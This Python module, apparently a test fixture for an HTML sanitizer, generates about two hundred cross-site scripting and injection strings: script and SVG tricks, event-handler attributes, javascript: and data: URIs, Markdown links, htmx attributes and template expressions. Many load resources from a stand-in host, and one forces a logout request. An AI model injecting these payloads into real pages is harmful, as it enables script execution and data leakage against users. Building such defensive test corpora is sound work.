"""Two hundred texts that try to become part of a page: in elements, attributes, addresses, styles, comments and Markdown.

Each calls alert, or asks a stranger's host for something, if it is ever taken for more than text.
"""

from itertools import product

HOST = "spy.example"  # nobody; whoever asks for it was told to by a text
CALL = "alert(1)"

ELEMENTS = [
    f"<script>{CALL}</script>",
    f"<script src=//{HOST}/x.js></script>",
    f"<SCRIPT/x>{CALL}</SCRIPT>",
    f"<script\n>{CALL}</script\n>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script>{CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=//{HOST}/x.js />",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><a><animate attributeName=href values=javascript:{CALL} /><text x=9 y=20>press</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={CALL} /></svg>#x'>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><img src=x onerror={CALL}></template>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<iframe src=//{HOST}/></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data=//{HOST}/x.swf></object>",
    f"<embed src=javascript:{CALL}>",
    f"<embed src=//{HOST}/x.svg>",
    f"<applet code=//{HOST}/x>",
    f"<base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/x.css>",
    f"<link rel=preload as=image href=//{HOST}/x.png>",
    f"<link rel=dns-prefetch href=//{HOST}/>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    f"<style>@import '//{HOST}/x.css';</style>",
    f"<style>*{{background:url(//{HOST}/x)}}</style>",
    f"<form action=//{HOST}/><input name=a autofocus onfocus={CALL}></form>",
    f"<form><button formaction=javascript:{CALL}>press</button></form>",
    f"<isindex action=javascript:{CALL} type=submit>",
    f"<img src=//{HOST}/x.png>",
    f"<img srcset='//{HOST}/x.png 1x'>",
    f"<picture><source srcset=//{HOST}/x.png><img></picture>",
    f"<video poster=//{HOST}/x.png></video>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=//{HOST}/x.mp3 autoplay></audio>",
    f"<track src=//{HOST}/x.vtt>",
    f"<input type=image src=//{HOST}/x.png>",
    f"<body background=//{HOST}/x.png onload={CALL}>",
    f"<table background=//{HOST}/x.png><td background=//{HOST}/y.png>",
    f"<frameset onload={CALL}><frame src=//{HOST}/>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<bgsound src=javascript:{CALL}>",
    f"<portal src=//{HOST}/>",
    f"<dialog open onclose={CALL}>x</dialog>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<xss contenteditable autofocus onfocus={CALL} tabindex=1>x</xss>",
    f"<div popover id=x onbeforetoggle={CALL}>x</div><button popovertarget=x>x</button>",
    "<plaintext>",
    "<xmp>",
    "<title>",
    "<textarea>",
    "<select>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</option></select><img src=x onerror={CALL}>",
    f"</template><img src=x onerror={CALL}>",
    f"</noscript><img src=x onerror={CALL}>",
    f"</dialog></main></body><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>",
    f"<!-- --!><img src=x onerror={CALL}>",
    f"<![CDATA[><img src=x onerror={CALL}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={CALL}>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={CALL}>'>]>&y;",
    f"<%00script>{CALL}</script>",
    f"<\u2028script>{CALL}</script>",
    f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
]
QUOTES = ['"', "'", "`", "", '">', "'>", '\\"', "&quot;", "&#34;", "\u02ba"]
HANDLERS = ["onmouseover", "onfocus", "onpointerenter", "hx-on::load", "hx-on:click", "onanimationstart"]
ATTRIBUTES = [
    f"{quote} {handler}={CALL} autofocus tabindex=0 x={quote}" for quote, handler in product(QUOTES, HANDLERS)
]
SCHEMES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f" javascript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript&#58;{CALL}",
    f"&#106;avascript:{CALL}",
    f"javascript://x%0a{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"view-source:javascript:{CALL}",
    f"blob:javascript:{CALL}",
    f"//{HOST}/",
    f"\\\\{HOST}\\x",
]
MARKDOWN = [
    form.format(address)
    for address in SCHEMES
    for form in ("[press]({})", "![shot]({})", "<{}>", "[press][1]\n\n[1]: {}")
]
HTMX = [
    f"<div hx-get=//{HOST}/ hx-trigger=load></div>",
    "<div hx-post=/logout/ hx-trigger=load></div>",
    f"<div hx-vals='js:{{a:{CALL}}}' hx-get=/ hx-trigger=load>x</div>",
    f"<div data-hx-get=//{HOST}/ data-hx-trigger=load>",
    "<div hx-swap-oob=true id=stream>x</div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
]
TEMPLATES = [
    "{{ 7|add:7 }}",
    "{% load x %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "#{7*7}",
]
ALL = [*ELEMENTS, *ATTRIBUTES, *MARKDOWN, *HTMX, *TEMPLATES]
